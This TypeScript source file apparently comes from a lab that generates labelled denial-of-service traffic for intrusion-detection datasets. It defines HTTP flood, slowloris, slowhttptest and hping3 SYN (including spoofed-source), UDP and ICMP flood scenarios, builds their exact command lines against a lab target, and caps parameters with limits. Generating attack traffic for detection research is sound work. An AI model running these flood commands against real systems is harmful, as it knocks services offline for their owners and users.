import { join } from 'node:path';
import { labError } from '../src/errors/lab.ts';
import type { HttpAttackConfig } from './attacks/attack-config.ts';
import { REPO_ROOT, type LabHost, type LabTopology } from './topology.ts';

/** Parameters every scenario accepts; each uses the ones that make sense for its tool. */
export interface AttackParameters {
  durationS: number;
  /**
   * Packets per second (hping3), new connections per second (slowhttptest, slowloris) or a cap
   * on requests per second (hulk, goldeneye; 0 = as fast as the workers go).
   */
  rate: number;
  /** Open connections (slowhttptest, slowloris) or concurrent workers (hulk, goldeneye). */
  concurrency: number;
  /** Seconds between follow-up data (slowhttptest -i, slowloris header lines). */
  intervalS: number;
  /** Payload bytes per packet (hping3 UDP and ICMP). */
  payloadBytes: number;
  /** Destination port (hping3 SYN and UDP). */
  port: number;
  /** Number of attacker hosts that run the attack at once. */
  attackers: number;
}

export type ScenarioTool = 'slowhttptest' | 'hping3' | 'lab/attacks/hulk.ts' | 'lab/attacks/goldeneye.ts' | 'lab/attacks/slowloris.ts';

export interface ScenarioDefinition {
  name: string;
  /** Label written for this attack's flows (CIC-IDS2017 names where the family matches). */
  label: string;
  tool: ScenarioTool;
  description: string;
  /** True when the packets carry random forged source addresses. */
  spoofedSources: boolean;
  defaults: AttackParameters;
  /** Builds the command for one attacker host. */
  command(context: CommandContext): { command: string; args: string[] };
}

interface CommandContext {
  topology: LabTopology;
  host: LabHost;
  parameters: AttackParameters;
  seed: number;
}

/** Upper bounds on parameters, so a typo cannot start an unbounded flood. */
export const PARAMETER_LIMITS: Record<keyof AttackParameters, [number, number]> = {
  durationS: [1, 600],
  rate: [0, 50_000],
  concurrency: [1, 4_000],
  intervalS: [1, 60],
  payloadBytes: [0, 1_400],
  port: [1, 65_535],
  attackers: [1, 20],
};

const BASE: AttackParameters = { durationS: 20, rate: 50, concurrency: 100, intervalS: 10, payloadBytes: 0, port: 80, attackers: 1 };

function targetUrl(topology: LabTopology, path: string): string {
  return `http://${topology.target.ipv4}:${topology.target.httpPort}${path}`;
}

function hpingInterval(rate: number): string {
  return `u${Math.max(1, Math.round(1_000_000 / Math.max(1, rate)))}`;
}

function hpingCount(p: AttackParameters): string {
  return String(Math.max(1, Math.ceil(p.rate * p.durationS)));
}

function slowhttptest(mode: '-H' | '-B' | '-X', extra: (context: CommandContext) => string[]) {
  return (context: CommandContext) => {
    const p = context.parameters;
    return {
      command: 'slowhttptest',
      args: [mode, '-c', String(p.concurrency), '-r', String(Math.max(1, p.rate)), '-l', String(p.durationS), '-p', '3', ...extra(context)],
    };
  };
}

function tsTool(path: ScenarioTool) {
  return ({ topology, parameters, seed }: CommandContext) => {
    const config: HttpAttackConfig = {
      targetAddress: topology.target.ipv4,
      port: topology.target.httpPort,
      durationMs: parameters.durationS * 1_000,
      concurrency: parameters.concurrency,
      maxRequestsPerSecond: parameters.rate,
      connectRatePerSecond: parameters.rate,
      headerIntervalMs: parameters.intervalS * 1_000,
      seed,
    };
    return { command: process.execPath, args: ['--import', 'tsx', join(REPO_ROOT, path), JSON.stringify(config)] };
  };
}

/** Every attack scenario the lab can run. */
export const SCENARIOS: readonly ScenarioDefinition[] = [
  {
    name: 'hulk',
    label: 'DoS Hulk',
    tool: 'lab/attacks/hulk.ts',
    description: 'HTTP GET flood, one new connection per request, unique query strings, random headers',
    spoofedSources: false,
    defaults: { ...BASE, rate: 0, concurrency: 20 },
    command: tsTool('lab/attacks/hulk.ts'),
  },
  {
    name: 'goldeneye',
    label: 'DoS GoldenEye',
    tool: 'lab/attacks/goldeneye.ts',
    description: 'HTTP keep-alive flood, requests back to back on long-lived connections',
    spoofedSources: false,
    defaults: { ...BASE, rate: 0, concurrency: 10 },
    command: tsTool('lab/attacks/goldeneye.ts'),
  },
  {
    name: 'slowloris',
    label: 'DoS slowloris',
    tool: 'lab/attacks/slowloris.ts',
    description: 'many connections with never-finished request headers, one header line per interval',
    spoofedSources: false,
    defaults: { ...BASE, rate: 50, concurrency: 300, intervalS: 10 },
    command: tsTool('lab/attacks/slowloris.ts'),
  },
  {
    name: 'slowhttptest-headers',
    label: 'DoS Slowhttptest',
    tool: 'slowhttptest',
    description: 'slowhttptest -H: slow request headers',
    spoofedSources: false,
    defaults: { ...BASE, rate: 50, concurrency: 300, intervalS: 10 },
    command: slowhttptest('-H', ({ topology, parameters }) => ['-i', String(parameters.intervalS), '-u', targetUrl(topology, '/')]),
  },
  {
    name: 'slowhttptest-body',
    label: 'DoS slow body',
    tool: 'slowhttptest',
    description: 'slowhttptest -B: POST with a large Content-Length and a body sent slowly',
    spoofedSources: false,
    defaults: { ...BASE, rate: 50, concurrency: 300, intervalS: 5 },
    command: slowhttptest('-B', ({ topology, parameters }) => ['-i', String(parameters.intervalS), '-s', '8192', '-t', 'POST', '-u', targetUrl(topology, topology.site.apiEcho)]),
  },
  {
    name: 'slowhttptest-read',
    label: 'DoS slow read',
    tool: 'slowhttptest',
    description: 'slowhttptest -X: requests a large file and reads the response slowly through a small window',
    spoofedSources: false,
    defaults: { ...BASE, rate: 20, concurrency: 100, intervalS: 1 },
    command: slowhttptest('-X', ({ topology, parameters }) => [
      '-n', String(parameters.intervalS), '-k', '2', '-w', '16', '-y', '64', '-z', '32',
      '-u', targetUrl(topology, topology.site.downloads[0].path),
    ]),
  },
  {
    name: 'syn-flood',
    label: 'DoS SYN flood',
    tool: 'hping3',
    description: 'hping3 TCP SYN flood from the attacker\'s own address',
    spoofedSources: false,
    defaults: { ...BASE, rate: 2_000 },
    command: ({ topology, parameters: p }) => ({
      command: 'hping3',
      args: ['-q', '-S', '-p', String(p.port), '-i', hpingInterval(p.rate), '-c', hpingCount(p), topology.target.ipv4],
    }),
  },
  {
    name: 'syn-flood-spoofed',
    label: 'DoS SYN flood',
    tool: 'hping3',
    description: 'hping3 TCP SYN flood with random forged source addresses (--rand-source)',
    spoofedSources: true,
    defaults: { ...BASE, rate: 2_000 },
    command: ({ topology, parameters: p }) => ({
      command: 'hping3',
      args: ['-q', '-S', '--rand-source', '-p', String(p.port), '-i', hpingInterval(p.rate), '-c', hpingCount(p), topology.target.ipv4],
    }),
  },
  {
    name: 'udp-flood',
    label: 'DoS UDP flood',
    tool: 'hping3',
    description: 'hping3 UDP flood from the attacker\'s own address to the DNS-like port',
    spoofedSources: false,
    defaults: { ...BASE, rate: 2_000, port: 53, payloadBytes: 64 },
    command: ({ topology, parameters: p }) => ({
      command: 'hping3',
      args: ['-q', '--udp', '-p', String(p.port), '-d', String(p.payloadBytes), '-i', hpingInterval(p.rate), '-c', hpingCount(p), topology.target.ipv4],
    }),
  },
  {
    name: 'icmp-flood',
    label: 'DoS ICMP flood',
    tool: 'hping3',
    description: 'hping3 ICMP echo-request flood from the attacker\'s own address',
    spoofedSources: false,
    defaults: { ...BASE, rate: 2_000, payloadBytes: 56 },
    command: ({ topology, parameters: p }) => ({
      command: 'hping3',
      args: ['-q', '--icmp', '-d', String(p.payloadBytes), '-i', hpingInterval(p.rate), '-c', hpingCount(p), topology.target.ipv4],
    }),
  },
];

export function findScenario(name: string): ScenarioDefinition {
  const scenario = SCENARIOS.find((candidate) => candidate.name === name);
  if (!scenario) {
    throw labError('FG_ERR_LAB_UNKNOWN_SCENARIO', `scenario '${name}' does not exist; use one of: benign, ${SCENARIOS.map((s) => s.name).join(', ')}.`, { name });
  }
  return scenario;
}

/** Fills in defaults and checks every parameter against its limits. */
export function resolveParameters(scenario: ScenarioDefinition, overrides: Partial<AttackParameters> = {}): AttackParameters {
  const parameters = { ...scenario.defaults };
  for (const [key, value] of Object.entries(overrides) as [keyof AttackParameters, number | undefined][]) {
    if (value !== undefined) parameters[key] = value;
  }
  for (const [key, [min, max]] of Object.entries(PARAMETER_LIMITS) as [keyof AttackParameters, [number, number]][]) {
    const value = parameters[key];
    if (!Number.isFinite(value) || value < min || value > max) {
      throw labError('FG_ERR_LAB_BAD_OPTION', `scenario '${scenario.name}': ${key} ${value} is invalid; use a number from ${min} to ${max}.`, { key, value });
    }
  }
  return parameters;
}

